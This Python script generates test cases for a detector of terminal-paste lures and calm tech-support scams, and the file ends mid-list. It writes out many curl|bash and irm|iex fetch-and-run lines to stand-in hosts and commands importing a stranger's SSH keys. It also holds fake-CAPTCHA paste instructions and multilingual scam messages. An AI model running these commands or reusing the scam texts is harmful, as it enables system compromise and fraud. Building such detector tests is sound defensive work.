"""Writes tests/data/cases/gaps8.jsonl: the lure gaps the seventh round left open (issue 9),
closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_gaps8.py

Deterministic (every variant is a product of fixed lists). Phone numbers are fictitious (555
ranges), hosts are reserved names (.example, .test, .invalid, documentation IP ranges) or the
real makers' own, brands are only the names a scammer borrows. No text is copied from a lure
collection, another detector's fixtures or the blind sets. Each line is {id, text, expect,
technique, platform[, source], target}.

Techniques:

- `ioc-bare`: a download-and-run with no page whose address gives the stager away: a server
  on a port of its own (https://host:8443/), a bare, decimal or hex IP, plain HTTP, or a
  script named for a fix (fix-dns.sh, repair_audio.ps1, update-required.sh). Look-alikes: the
  usual port written out, loopback, a port in a command that runs nothing fetched, a fix word
  in a package, a patch or a repository file, and the project's own page serving its own
  troubleshooting script.
- `page-dressed`: a stranger's download-and-run from a page whose own address dresses it up:
  a product's name joined with a download word in its registrable name
  (notion-desktop-app.example, get-obsidian.test), or a path that offers a fix
  (shop.example/fix-dns-error/, /update-required). Look-alikes: the same page serving its
  own script, a developer site's question about an error (a warning, not a block), a
  tutorial, the trust list's installers, a product site named without a download word.
- `calm-scam-<lang>`: a tech-support or account scam with no alarm word in de, fr, es, it, pt,
  nl, pl, tr, ru, ja, zh and ar: a company's claim about your computer, account or licence and a
  number to call about it. Look-alikes in each language: a support page's number, advice ("if
  your account was blocked, call…"), a notice that sends you to the app or the account, news
  about such scams.
- `handover-lure`: a forge account's keys imported as login keys, or a package source (dnf,
  zypper, flatpak, and apt's HTTPS deb lines, signed-by or not) added and installed from, from a
  stranger's page with a lure trait beside it: a page dressed up as a check, a fix or a
  product's download page, a verification tail, orders to paste into a terminal. Look-alikes:
  the same acts from the project's own page and bare (quiet), from a stranger's page with no
  trait (a warning), the traits beside commands that hand nothing over, plain-HTTP vendor apt
  lines, the distribution's own sources, a checksum's own verification words.
- `spelt-suffix`: a tutorial or a question about a product quoting the maker's installer from
  the domain that spells the product's name across its country suffix (getmic.ro: micro,
  tur.so: turso) is the page's quote of the maker's own host, like micro.<tld>. Lures that try
  to abuse it: a page offering a fix, a page about something else, a check page, a
  verification tail, the Run box, look-alike hosts (getmicro.example), a user part, a second
  script beside it.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("gaps8.jsonl")


class Book(casefile.Book):
    def __init__(self) -> None:
        super().__init__("g8")


book = Book()
FLAGGED, QUIET = "flagged", "not_flagged"
MALICIOUS, SUSPICIOUS = "malicious", "suspicious"

# ---- 1. a bare download-and-run whose address gives the stager away -------------------------
SHELL_RUNS = (
    "curl -fsSL {u} | bash",
    "wget -qO- {u} | sh",
    'bash -c "$(curl -fsSL {u})"',
    "curl -s {u} | sudo bash",
    "curl -sL {u} | zsh",
)
PS_RUNS = (
    "irm {u} | iex",
    "iex (iwr -UseBasicParsing {u}).Content",
    "powershell -c \"irm '{u}' | iex\"",
)
ODD_PORTS = (
    "https://cdn.quillstack.test:8443/install.sh",
    "https://updates.brindle.example:2053/setup.sh",
    "https://files.ovenbird.test:9443/get",
    "https://pkg.tallowmere.example:4443/agent.sh",
    "https://mirror.sandpiper.test:10443/i.sh",
    "https://dl.corvid-net.example:8080/bootstrap.sh",
)
FIX_NAMED = (
    "https://cdn.quillstack.test/fix-dns.sh",
    "https://files.ovenbird.test/scripts/repair_audio.sh",
    "https://get.tallowmere.example/update-required.sh",
    "https://static.brindle.example/a/unblock.sh",
    "https://dl.corvid-net.example/quickfix",
    "https://cdn.sandpiper.test/wifi-fix.sh",
)
PS_ODD = (
    "https://cdn.quillstack.test:8443/a.ps1",
    "https://files.ovenbird.test:2083/setup",
)
PS_FIX = (
    "https://static.brindle.example/fix_display.ps1",
    "https://files.ovenbird.test/troubleshooter.ps1",
    "https://get.tallowmere.example/repair-driver.ps1",
)
IP_FORMS = (
    "http://203.0.113.45/i.sh",
    "https://198.51.100.23/install.sh",
    "http://3405803821/s",  # 203.0.113.45 as one integer
    "http://0xcb.0x0.0x71.0x2d/s",  # the same, octet by octet in hex
    "http://mirror.sandpiper.test/setup.sh",
)
for i, url in enumerate(ODD_PORTS + FIX_NAMED + IP_FORMS):
    run = SHELL_RUNS[i % len(SHELL_RUNS)]
    book.add("ioc-bare", run.format(u=url), MALICIOUS, "linux", "terminal")
    if i % 3 == 0:  # and with no idea where it goes (a log line, an IOC list)
        book.add("ioc-bare", run.format(u=url), MALICIOUS, "linux", "unknown")
for i, url in enumerate(PS_ODD + PS_FIX):
    for j, run in enumerate(PS_RUNS):
        if (i + j) % 2 == 0:
            book.add("ioc-bare", run.format(u=url), MALICIOUS, "windows", "terminal")

# look-alikes: what these traits must not catch
for text, target in (
    ("curl -fsSL https://get.quillstack.test/install.sh | bash", "terminal"),  # a warning
    ("curl -fsSL https://get.quillstack.test:443/install.sh | bash", "terminal"),
    ("curl -fsSL https://localhost:8443/install.sh | bash", "terminal"),
    ("curl -s https://api.quillstack.test:8443/healthz", "terminal"),
    ("curl -s -o report.json https://metrics.brindle.example:9443/api/v1/report", "terminal"),
    ("docker run -d -p 8443:8443 ghcr.io/ovenbird/gateway:1.4", "terminal"),
    ("kubectl port-forward svc/web 8443:443", "terminal"),
    ("ssh -p 2222 deploy@build.tallowmere.example", "terminal"),
    (
        "wget https://files.ovenbird.test/patches/fix-1234.patch && git apply fix-1234.patch",
        "terminal",
    ),
    ("sudo dnf install -y printer-fix", "terminal"),
    ("git commit -m 'fix: repair the dns lookup on update'", "terminal"),
    ("curl -O https://docs.brindle.example/pdf/repair-manual.pdf", "terminal"),
    ("git clone https://github.com/sandpiper-labs/dns-fix.git", "terminal"),
    ("npm run fix", "terminal"),
    ("cargo clippy --fix --allow-dirty", "terminal"),
    ("brew install --cask fixkey", "terminal"),
    (
        "Invoke-WebRequest https://files.ovenbird.test:9443/report.csv -OutFile report.csv",
        "terminal",
    ),
    ("Test-NetConnection build.tallowmere.example -Port 8443", "terminal"),
    ("python3 -m http.server 8443", "terminal"),
    ("curl http://127.0.0.1:8080/setup.sh | sh", "terminal"),
    ("curl -fsS https://registry.brindle.example:5000/v2/_catalog", "terminal"),
    ("psql -h db.ovenbird.test -p 5433 -U app", "terminal"),
    ("npx http-server -p 8443", "terminal"),
    (
        "curl -fsSL https://get.quillstack.test/install.sh -o install.sh && less install.sh",
        "terminal",
    ),
    ("git remote add fix https://github.com/sandpiper-labs/wifi-tools.git", "terminal"),
    ("pip install autofix-lint==0.4.1", "terminal"),
    ("curl -s https://api.tallowmere.example/v1/repair-orders?status=open", "terminal"),
    (
        "kubectl apply -f https://raw.githubusercontent.com/sandpiper-labs/wifi-tools/main/fix-rbac.yaml",
        "terminal",
    ),
    ("Get-Content .\\fix-notes.txt", "terminal"),
    ("code --goto src/repair.py:42", "terminal"),
):
    piped = "| sh" in text or "| bash" in text
    book.add("ioc-bare", text, SUSPICIOUS if piped else QUIET, "any", target)
# the project's own page serving its own troubleshooting script or its own port
for page, text in (
    (
        "https://docs.quillstack.test/troubleshooting/permissions",
        "curl -fsSL https://quillstack.test/fix-permissions.sh | bash",
    ),
    (
        "https://quillstack.test/docs/repair",
        "curl -fsSL https://get.quillstack.test/repair.sh | sudo bash",
    ),
    (
        "https://github.com/sandpiper-labs/wifi-tools",
        "curl -fsSL https://raw.githubusercontent.com/sandpiper-labs/wifi-tools/main/fix-wifi.sh | bash",
    ),
    (
        "https://deploy.tallowmere.example:8443/docs/agent",
        "curl -fsSL https://deploy.tallowmere.example:8443/agent.sh | sudo bash",
    ),
    (
        "https://brindle.example/support/display",
        "irm https://brindle.example/fix_display.ps1 | iex",
    ),
    (
        "https://gitlab.com/ovenbird/ovenctl",
        "curl -fsSL https://gitlab.com/ovenbird/ovenctl/-/raw/main/scripts/fix-perms.sh | sh",
    ),
):
    book.add("ioc-bare", text, QUIET, "any", "terminal", page)

# ---- 2. a page dressed up by its own address, serving a stranger's script -------------------
PRODUCT_PAGES = (
    "https://notion-desktop-app.example/download",
    "https://get-obsidian.test/",
    "https://obsidian-download.example/mac",
    "https://figma-app-download.test/macos",
    "https://loom-installer.example/",
    "https://cursor-setup.test/linux",
    "https://raycast-official.example/install",
    "https://get-warpterm.test/",
    "https://blender-app.example/download/linux",
    "https://dl-audacity.test/",
    "https://davinci-resolve-download.example/free",
    "https://spotify-desktop-app.test/mac",
    "https://kdenlive-setup.example/",
)
FIX_PAGES = (
    "https://www.quillmere-bakery.example/fix-dns-error/",
    "https://harborview-dental.example/update-required",
    "https://lakeside-travel.test/repair-your-browser/",
    "https://www.orchard-school.example/errors/0x80070005",
    "https://greenfield-hotel.test/unblock-account",
    "https://shop.tallow-candles.example/troubleshooter",
    "https://fernhill-garden.test/p/verify-your-device",
    "https://news.pinecrest-local.example/video-fix/",
)
STRANGER_RUNS = (
    "curl -fsSL https://cdn.files-relay.test/install.sh | bash",
    'bash -c "$(curl -fsSL https://get.relaybox.example/setup)"',
    "curl -sL https://static.mirrorpoint.test/i | sh",
)
for i, page in enumerate(PRODUCT_PAGES + FIX_PAGES):
    run = STRANGER_RUNS[i % len(STRANGER_RUNS)]
    book.add("page-dressed", run, MALICIOUS, "macos", "terminal", page)
    if i % 2 == 0:
        ps = "irm https://cdn.files-relay.test/a | iex"
        book.add("page-dressed", ps, MALICIOUS, "windows", "terminal", page)

# look-alikes
for page, text, expect in (
    # the same pages serving their own script: the page's word on itself
    (PRODUCT_PAGES[0], "curl -fsSL https://notion-desktop-app.example/install.sh | bash", QUIET),
    (PRODUCT_PAGES[1], "curl -fsSL https://get-obsidian.test/install.sh | sh", QUIET),
    (FIX_PAGES[0], "curl -fsSL https://www.quillmere-bakery.example/fix-dns.sh | bash", QUIET),
    # a developer site's question or a tutorial about an error: a warning, never a block
    (
        "https://askubuntu.com/questions/1490021/how-to-fix-dns-error-after-upgrade",
        STRANGER_RUNS[0],
        SUSPICIOUS,
    ),
    (
        "https://superuser.com/questions/88121/repair-grub-after-update",
        STRANGER_RUNS[2],
        SUSPICIOUS,
    ),
    (
        "https://devnotes.example/posts/how-to-fix-permission-denied-in-docker/",
        STRANGER_RUNS[1],
        SUSPICIOUS,
    ),
    ("https://forum.widgetctl.example/t/update-required-error/311", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://docs.relaybox.example/errors/fix-tls", STRANGER_RUNS[1], QUIET),  # its own docs
    ("https://wiki.homelab.example/Fix_Wifi_Errors", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://github.com/relaybox/relaybox/issues/42", STRANGER_RUNS[1], SUSPICIOUS),
    # the trust list's installers from any page
    (
        FIX_PAGES[1],
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        QUIET,
    ),
    (PRODUCT_PAGES[2], "curl -fsSL https://ollama.com/install.sh | sh  # Ollama for Linux", QUIET),
    # a product's site named without a download word, quoting a stranger's script: a warning
    ("https://obsidian-notes.example/guide", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://homelab-setup-guide.example/part-3", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://linux-install-notes.example/k3s", STRANGER_RUNS[1], SUSPICIOUS),
    # pages whose words are a product's own: no fix offered, no download word
    ("https://www.fixture-lighting.example/catalogue", "ls -la ~/Downloads", QUIET),
    ("https://errorless.example/blog/launch", "git pull --rebase", QUIET),
    # commands that run nothing fetched, from the dressed-up pages
    (PRODUCT_PAGES[3], "open -a Figma", QUIET),
    (FIX_PAGES[2], "ipconfig /flushdns && ipconfig /registerdns", QUIET),
    (FIX_PAGES[3], "sfc /scannow & DISM /Online /Cleanup-Image /RestoreHealth", QUIET),
    (FIX_PAGES[4], "nslookup greenfield-hotel.test", QUIET),
    (PRODUCT_PAGES[4], "brew install --cask loom", QUIET),
    (PRODUCT_PAGES[5], "sudo apt install ./cursor_0.42_amd64.deb", QUIET),
    # a product's own download site serving its own script under another label of its domain
    (
        "https://get-obsidian.test/linux",
        "curl -fsSL https://dl.get-obsidian.test/install.sh | sh",
        QUIET,
    ),
    (
        "https://raycast-official.example/",
        "curl -fsSL https://cdn.raycast-official.example/i.sh | bash",
        QUIET,
    ),
    # writing about software under a name with a download word: a warning, never a block
    ("https://linux-setup-notes.example/k3s", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://install-tips.example/node", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://get-started-academy.example/week2", STRANGER_RUNS[1], SUSPICIOUS),
    # a fix word that is the page's product (a repair shop's own tool page, a company name)
    ("https://www.errorlog-viewer.example/", "ls /var/log", QUIET),
    (
        "https://stackoverflow.com/questions/7711/fix-ssl-error-in-curl",
        "curl --cacert ca.pem https://api.relaybox.example",
        QUIET,
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/fix-dns",
        "ipconfig /registerdns",
        QUIET,
    ),
    ("https://support.apple.com/en-us/102677", "sudo softwareupdate -ia", QUIET),
    # a path fix page quoting a package manager's own line (nothing fetched from a stranger)
    (FIX_PAGES[5], "sudo apt-get install --reinstall network-manager", QUIET),
    (FIX_PAGES[6], "winget upgrade --all", QUIET),
    (PRODUCT_PAGES[10], "open ~/Downloads/DaVinci_Resolve_19.dmg", QUIET),
    (PRODUCT_PAGES[11], "defaults read com.spotify.client", QUIET),
    (FIX_PAGES[7], "sudo systemctl restart NetworkManager", QUIET),
    ("https://www.fixit-garage.example/contact", "ping -c 3 fixit-garage.example", QUIET),
    ("https://obsidian.md/download", "flatpak install flathub md.obsidian.Obsidian", QUIET),
    ("https://pypi.org/project/autofix-lint/", "pip install autofix-lint", QUIET),
    ("https://get-obsidian.test/", "sha256sum Obsidian-1.7.7.AppImage", QUIET),
    ("https://docs.relaybox.example/install", STRANGER_RUNS[1], QUIET),
):
    book.add("page-dressed", text, expect, "any", "terminal", page)

# ---- 3. a scam said calmly, in the other twelve languages ------------------------------------
# A company's claim about YOUR computer, account or licence and a number to call about it, with
# no alarm word (no "blocked", no "virus", no exclamation mark). Look-alikes in each language: a
# support page's number, advice ("if your account…, call"), a notice that sends you to the app
# or the account, and news about such scams.
CALM_I18N = {
    "de": (
        "Microsoft hat ein Problem mit Ihrem Computer festgestellt. Bitte rufen Sie den Microsoft Support unter +49 30 5555 0142 an.",
        "Ihre Windows-Lizenz ist abgelaufen. Wenden Sie sich an den Microsoft-Kundendienst: +49 800 555 0199.",
        "Apple hat ungewöhnliche Aktivität auf Ihrer Apple-ID erkannt. Kontaktieren Sie den Apple Support unter +49 89 5555 0173.",
    ),
    "fr": (
        "Microsoft a détecté un problème sur votre ordinateur. Veuillez appeler le support Microsoft au +33 1 55 55 01 23.",
        "Votre licence Windows a expiré. Contactez l'assistance Microsoft au +33 800 555 019.",
        "Votre identifiant Apple a été utilisé pour se connecter depuis un nouvel appareil. Appelez l'assistance Apple au +33 1 55 55 01 77.",
    ),
    "es": (
        "Microsoft ha detectado un problema en su equipo. Llame al soporte de Microsoft al +34 91 555 0142.",
        "Su licencia de Windows ha caducado. Comuníquese con el soporte técnico de Microsoft: +34 900 555 019.",
        "Su cuenta de PayPal requiere una verificación. Llame al +34 91 555 0177 para completarla.",
    ),
    "it": (
        "Microsoft ha rilevato un problema sul suo computer. Chiami l'assistenza Microsoft al numero +39 02 5555 0142.",
        "La sua licenza di Windows è scaduta. Contatti il supporto Microsoft al +39 06 5555 0199.",
        "Il suo account Amazon è stato utilizzato da un nuovo dispositivo. Per assistenza chiami il +39 02 5555 0173.",
    ),
    "pt": (
        "A Microsoft detectou um problema no seu computador. Ligue para o suporte da Microsoft: +55 11 5555 0142.",
        "A sua licença do Windows expirou. Entre em contato com o suporte Microsoft pelo +351 21 555 0199.",
        "Sua conta Apple precisa ser verificada. Ligue para o suporte Apple: +55 21 5555 0173.",
    ),
    "nl": (
        "Microsoft heeft een probleem op uw computer gedetecteerd. Bel Microsoft Support op +31 20 555 0142.",
        "Uw Windows-licentie is verlopen. Neem contact op met Microsoft via +31 800 555 0199.",
        "Uw Amazon-account is gebruikt op een nieuw apparaat. Bel de klantenservice van Amazon: +31 20 555 0173.",
    ),
    "pl": (
        "Microsoft wykrył problem na Twoim komputerze. Zadzwoń do pomocy technicznej Microsoft: +48 22 555 01 42.",
        "Twoja licencja Windows wygasła. Skontaktuj się z działem obsługi klienta Microsoft: +48 800 555 019.",
        "Twoje konto Apple wymaga weryfikacji. Zadzwoń do Apple pod numer +48 22 555 01 73.",
    ),
    "tr": (
        "Microsoft bilgisayarınızda bir sorun tespit etti. Lütfen Microsoft destek hattını arayın: +90 212 555 01 42.",
        "Windows lisansınızın süresi doldu. Microsoft müşteri hizmetleri ile iletişime geçin: +90 850 555 01 99.",
        "Apple kimliğiniz yeni bir cihazda kullanıldı. Apple destek hattını arayın: +90 212 555 01 73.",
    ),
    "ru": (
        "Microsoft обнаружила проблему на вашем компьютере. Позвоните в службу поддержки Microsoft: +7 495 555-01-42.",
        "Срок действия вашей лицензии Windows истёк. Свяжитесь с поддержкой Microsoft по телефону +7 800 555-01-99.",
        "Ваша учётная запись Apple требует подтверждения. Позвоните в Apple по номеру +7 495 555-01-73.",
    ),
    "ja": (
        "マイクロソフトがお使いのコンピューターで問題を検出しました。マイクロソフト サポート +81 3 5555 0142 までお電話ください。",
        "お使いのWindowsライセンスの有効期限が切れました。マイクロソフトサポート（+81 120 555 019）にお問い合わせください。",
        "お客様のApple IDが新しいデバイスでサインインされました。Appleサポート +81 3 5555 0173 までご連絡ください。",
    ),
    "zh": (
        "微软检测到您的电脑存在问题。请拨打微软技术支持电话 +86 10 5555 0142。",
        "您的Windows许可证已过期。请致电微软客服 +86 400 555 0199。",
        "您的Apple ID 需要验证。请拨打苹果客服热线 +86 21 5555 0173。",
    ),
    "ar": (
        "اكتشفت مايكروسوفت مشكلة في جهازك. يرجى الاتصال بالدعم الفني لمايكروسوفت على الرقم +971 4 555 0142.",
        "انتهت صلاحية ترخيص ويندوز الخاص بك. اتصل بخدمة العملاء لدى مايكروسوفت على +966 11 555 0199.",
        "تم تعليق حسابك على أمازون. تواصل مع خدمة العملاء على الرقم +966 11 555 0173.",
    ),
}
CALM_I18N_QUIET = {
    "de": (
        "Microsoft Support Deutschland: +49 30 5555 0100 (Mo–Fr 8–18 Uhr).",
        "Falls Ihr Microsoft-Konto gesperrt wurde, erreichen Sie den Kundendienst unter +49 30 5555 0100.",
        "Ihr Microsoft 365-Abonnement läuft heute ab. Verlängern Sie es in Ihrem Kundenkonto. Fragen: +49 30 5555 0100.",
        "Betrüger geben sich als Microsoft aus und behaupten, Ihr Computer sei gehackt. Die Polizei rät: auflegen (Hinweise: +49 30 5555 0100).",
    ),
    "fr": (
        "Assistance Microsoft France : +33 1 55 55 01 00, du lundi au vendredi.",
        "Si votre compte Microsoft a été bloqué, vous pouvez appeler l'assistance au +33 1 55 55 01 00.",
        "Votre abonnement Microsoft 365 expire aujourd'hui. Renouvelez-le dans votre espace client. Questions : +33 1 55 55 01 00.",
        "Arnaque : de faux techniciens Microsoft disent que votre ordinateur est infecté et donnent un numéro comme le +33 1 55 55 01 00.",
    ),
    "es": (
        "Soporte de Microsoft España: +34 91 555 0100, de lunes a viernes.",
        "Si su licencia de Windows ha caducado, puede llamar al soporte de Microsoft: +34 91 555 0100.",
        "Su suscripción de Microsoft 365 ha caducado. Renuévela en la configuración de su cuenta. Dudas: +34 91 555 0100.",
        "Estafa: falsos técnicos de Microsoft dicen que su equipo está infectado y piden llamar al +34 91 555 0100.",
    ),
    "it": (
        "Assistenza Microsoft Italia: +39 02 5555 0100, dal lunedì al venerdì.",
        "Se il suo account Microsoft è stato bloccato, chiami l'assistenza al +39 02 5555 0100.",
        "Il suo abbonamento Microsoft 365 scade oggi. Lo rinnovi nell'area clienti. Domande: +39 02 5555 0100.",
        "Truffa: finti tecnici Microsoft dicono che il suo computer è infetto e chiedono di chiamare il +39 02 5555 0100.",
    ),
    "pt": (
        "Suporte Microsoft Brasil: +55 11 5555 0100, de segunda a sexta.",
        "Se a sua conta Microsoft foi bloqueada, ligue para o suporte: +55 11 5555 0100.",
        "A sua assinatura do Microsoft 365 expira hoje. Renove no aplicativo. Dúvidas: +55 11 5555 0100.",
        "Golpe: falsos técnicos da Microsoft dizem que o seu computador está infectado e pedem para ligar para +55 11 5555 0100.",
    ),
    "nl": (
        "Microsoft Support Nederland: +31 20 555 0100 (ma–vr 9–17 uur).",
        "Als uw Microsoft-account is geblokkeerd, bel dan de klantenservice op +31 20 555 0100.",
        "Uw Microsoft 365-abonnement loopt vandaag af. Verleng het in de app. Vragen: +31 20 555 0100.",
        "Oplichters doen zich voor als Microsoft en zeggen dat uw computer gehackt is; bel nooit het nummer +31 20 555 0100 uit zo'n melding.",
    ),
    "pl": (
        "Pomoc techniczna Microsoft Polska: +48 22 555 01 00, od poniedziałku do piątku.",
        "Jeśli Twoje konto Microsoft zostało zablokowane, zadzwoń na infolinię +48 22 555 01 00.",
        "Twoja subskrypcja Microsoft 365 wygasa dziś. Odnów ją w aplikacji. Pytania: +48 22 555 01 00.",
        "Oszuści podszywają się pod Microsoft i twierdzą, że Twój komputer został zhakowany; nie dzwoń pod +48 22 555 01 00.",
    ),
    "tr": (
        "Microsoft Türkiye destek hattı: +90 212 555 01 00, hafta içi 09-18.",
        "Eğer Windows lisansınızın süresi dolduysa Microsoft destek hattını arayın: +90 212 555 01 00.",
        "Microsoft 365 aboneliğinizin süresi bugün doluyor. Mobil uygulamadan yenileyin. Sorular: +90 212 555 01 00.",
        "Dolandırıcılar Microsoft adına arayıp bilgisayarınızda virüs olduğunu söylüyor; +90 212 555 01 00 gibi numaraları aramayın.",
    ),
    "ru": (
        "Служба поддержки Microsoft в России: +7 495 555-01-00, по будням.",
        "Если ваша учётная запись Microsoft заблокирована, позвоните в поддержку: +7 495 555-01-00.",
        "Срок вашей подписки Microsoft 365 истекает сегодня. Продлите её в личном кабинете. Вопросы: +7 495 555-01-00.",
        "Мошенники звонят от имени Microsoft и говорят, что ваш компьютер взломан; не звоните на +7 495 555-01-00.",
    ),
    "ja": (
        "マイクロソフト サポート窓口：+81 3 5555 0100（平日 9時〜18時）",
        "もしお使いのWindowsライセンスの有効期限が切れた場合は、マイクロソフト サポート +81 3 5555 0100 までお電話ください。",
        "Microsoft 365 のサブスクリプションは本日で期限切れになります。アプリから更新してください。お問い合わせ：+81 3 5555 0100",
        "マイクロソフトを名乗る詐欺にご注意ください。「コンピューターがウイルスに感染」と表示し +81 3 5555 0100 に電話させます。",
    ),
    "zh": (
        "微软客服热线：+86 400 555 0100（工作日 9:00–18:00）",
        "如果您的Windows许可证已过期，可以拨打微软客服电话 +86 400 555 0100。",
        "您的 Microsoft 365 订阅今天到期，请在官方App中续订。咨询电话：+86 400 555 0100。",
        "警惕冒充微软的诈骗：对方称您的电脑感染病毒，并要求拨打 +86 400 555 0100。",
    ),
    "ar": (
        "الدعم الفني لمايكروسوفت: +971 4 555 0100، من الأحد إلى الخميس.",
        "إذا انتهت صلاحية ترخيصك لويندوز، اتصل بخدمة العملاء لدى مايكروسوفت على +971 4 555 0100.",
        "ينتهي اشتراكك في مايكروسوفت 365 اليوم. جدده من التطبيق. للاستفسار: +971 4 555 0100.",
        "احذر من احتيال باسم مايكروسوفت يدعي أن جهازك مصاب ويطلب الاتصال بالرقم +971 4 555 0100.",
    ),
}
MAILBOX = "https://mail.example.org/inbox"
for lang, texts in CALM_I18N.items():
    for i, text in enumerate(texts):
        book.add(f"calm-scam-{lang}", text, FLAGGED)
        if i == 0:  # as a pop-up's text copied into a chat or an editor
            book.add(f"calm-scam-{lang}", text, FLAGGED, "any", "other", MAILBOX)
for lang, texts in CALM_I18N_QUIET.items():
    for text in texts:
        book.add(f"calm-scam-{lang}", text, QUIET)

# ---- 4. a way in handed over by a stranger's page with a lure trait: a block ----------------
# A forge account's keys made login keys, or a package source added and installed from, are
# a warning from a stranger's page; with a lure trait beside them (a page dressed up as a check,
# a fix or a product's download page, a verification tail, orders to paste into a terminal)
# they are blocked. From the project's own page they stay quiet, and bare they are
# information. Signed apt sources (deb [signed-by=…] https://…) are read as package sources:
# the key is the same stranger's.
ACTS = (
    "ssh-import-id gh:tarn-support",
    "sudo ssh-import-id-gh tarn-support",
    "ssh-import-id lp:tarn-helpdesk",
    "curl -fsSL https://github.com/tarn-support.keys >> ~/.ssh/authorized_keys",
    "wget -qO- https://gitlab.com/tarn-support.keys | tee -a ~/.ssh/authorized_keys",
    "sudo dnf config-manager --add-repo https://rpm.relaybox.test/relay.repo && sudo dnf install -y relay-agent",
    "sudo zypper ar -f https://rpm.relaybox.test/opensuse relay && sudo zypper in -y relay-agent",
    "flatpak remote-add --if-not-exists relay https://flat.relaybox.test/relay.flatpakrepo && flatpak install -y relay com.relaybox.Agent",
    'echo "deb [signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt update && sudo apt install -y relay-agent',
    'curl -fsSL https://apt.relaybox.test/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/relay.gpg && echo "deb [arch=amd64 signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test/debian bookworm main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt-get update && sudo apt-get install -y relay-agent',
    'sudo add-apt-repository "deb [arch=amd64] https://apt.relaybox.test/ubuntu jammy main" && sudo apt-get install -y relay-agent',
)
STRANGER_PAGES = (
    "https://www.quillmere-bakery.example/blog/2024/spring-menu",
    "https://lakeside-travel.test/offers/alps",
)
TRAITS = (
    ("page", "https://secure-check.verify-human.example/captcha/step2", "{act}"),
    ("page", "https://www.quillmere-bakery.example/fix-dns-error/", "{act}"),
    ("page", "https://notion-desktop-app.example/download/linux", "{act}"),
    ("tail", STRANGER_PAGES[0], "{act}   # I am not a robot - Verification ID: 2231"),
    (
        "orders",
        STRANGER_PAGES[1],
        "Open Terminal (Ctrl+Alt+T), paste the line below and press Enter:\n{act}",
    ),
)
for i, act in enumerate(ACTS):
    for j, (_kind, page, shape) in enumerate(TRAITS):
        if (i + j) % 5 in (0, 1, 3):
            book.add("handover-lure", shape.format(act=act), MALICIOUS, "linux", "terminal", page)

# look-alikes: the same acts from the project's own page, bare, and from a stranger's page
# with no trait (a warning), and the traits beside commands that hand nothing over
OWN_PAGES = (
    "https://github.com/tarn-support/dotfiles",
    "https://github.com/tarn-support/dotfiles",
    "https://launchpad.net/~tarn-helpdesk",
    "https://github.com/tarn-support/dotfiles",
    "https://gitlab.com/tarn-support/infra",
    "https://relaybox.test/docs/install/fedora",
    "https://relaybox.test/docs/install/opensuse",
    "https://relaybox.test/docs/install/flatpak",
    "https://relaybox.test/docs/install/debian",
    "https://docs.relaybox.test/install/debian",
    "https://relaybox.test/docs/install/ubuntu",
)
for act, page in zip(ACTS, OWN_PAGES, strict=True):
    book.add("handover-lure", act, QUIET, "linux", "terminal", page)
    book.add("handover-lure", act, QUIET, "linux", "terminal")
for i, act in enumerate(ACTS):
    if i % 2 == 0:
        book.add("handover-lure", act, SUSPICIOUS, "linux", "terminal", STRANGER_PAGES[i % 2])
for page, text in (
    (TRAITS[0][1], "ssh-keygen -t ed25519 -C laptop"),
    (TRAITS[1][1], "cat ~/.ssh/id_ed25519.pub"),
    (TRAITS[2][1], "flatpak list --app"),
    (TRAITS[0][1], "dnf repolist enabled"),
    (TRAITS[1][1], "apt list --upgradable"),
    (TRAITS[2][1], "ssh-import-id --help"),
    (STRANGER_PAGES[0], "ssh-keygen -R build.relaybox.test   # remove the old host key"),
    # plain-HTTP vendor apt lines are not read (vendors serve apt that way; the key checks it)
    (
        "https://relaybox.test/docs/install/debian-legacy",
        'echo "deb http://apt.relaybox.test/legacy stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt-get update && sudo apt-get install -y relay-agent',
    ),
    # the distribution's own sources from a fix page
    (TRAITS[1][1], "sudo add-apt-repository universe && sudo apt-get install -y network-manager"),
    (
        TRAITS[1][1],
        'echo "deb https://deb.debian.org/debian bookworm-backports main" | sudo tee /etc/apt/sources.list.d/backports.list && sudo apt update && sudo apt install -y -t bookworm-backports linux-image-amd64',
    ),
    # a checksum's own "verification" words after a package source from its own page
    (
        "https://relaybox.test/docs/install/debian",
        'curl -fsSLO https://apt.relaybox.test/key.gpg && sha256sum -c key.gpg.sha256  # checksum verification successful\nsudo gpg --dearmor -o /usr/share/keyrings/relay.gpg key.gpg && echo "deb [signed-by=/usr/share/keyrings/relay.gpg] https://apt.relaybox.test stable main" | sudo tee /etc/apt/sources.list.d/relay.list && sudo apt update && sudo apt install -y relay-agent',
    ),
):
    book.add("handover-lure", text, QUIET, "linux", "terminal", page)

# ---- 5. a name spelt across a country suffix: a tutorial's quote of the maker's own host -----
# A page about software that names the product a domain spells across its country suffix with
# a download word in front (getmic.ro: micro; tur.so: turso) vouches for that domain as it
# vouches for micro.<tld>: a question or a tutorial quoting the maker's installer. The lures try
# to abuse that reading: the same quote from a page offering a fix, from a page about something
# else, from a check page, with a verification tail, into the Run box, or from a host that only
# looks like such a spelling (getmicro.example, a suffix of three letters).
SPELT_QUOTES = (
    (
        "https://askubuntu.com/questions/1488122/install-micro-editor",
        "curl https://getmic.ro | bash",
    ),
    (
        "https://superuser.com/questions/77120/how-to-install-micro-text-editor-on-wsl",
        "curl -fsSL https://getmic.ro | bash && sudo mv micro /usr/local/bin/",
    ),
    (
        "https://dev.to/termnotes/micro-a-terminal-editor-for-everyone-4k2a",
        "curl https://getmic.ro/r | sudo sh",
    ),
    (
        "https://linuxhandbook.example/install-micro-editor/",
        "cd /usr/local/bin; curl https://getmic.ro | sudo bash",
    ),
    (
        "https://stackoverflow.com/questions/70011/setting-up-turso-cli-on-ubuntu",
